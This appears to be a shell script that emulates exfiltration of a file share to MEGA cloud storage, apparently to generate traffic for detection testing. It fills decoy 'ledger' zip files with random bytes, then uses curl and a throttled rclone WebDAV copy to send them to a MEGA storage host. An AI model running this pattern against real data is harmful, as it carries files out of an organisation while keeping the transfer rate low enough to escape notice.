# One host empties a share into MEGA's storage names: an API call by curl, then rclone with its pace held down. The wire is WebDAV
# inside TLS, not MEGA's own protocol; names, volume and rhythm are what counts here.
set -e
mkdir -p "$HOME/share/2026"
for number in $(seq 12); do head -c $((110000 + number * 14000)) /dev/urandom >"$HOME/share/2026/ledger-$number.zip"; done
curl -sf -o /dev/null -H 'Content-Type: application/json' -d '[{"a":"us0","user":"x@example.org"}]' https://g.api.mega.co.nz/cs?id=1
rclone copy "$HOME/share" :webdav:/ --webdav-url https://gfs270n100.userstorage.mega.co.nz --webdav-vendor other \
  --transfers 2 --bwlimit 65k --max-size 1700k --retries 1
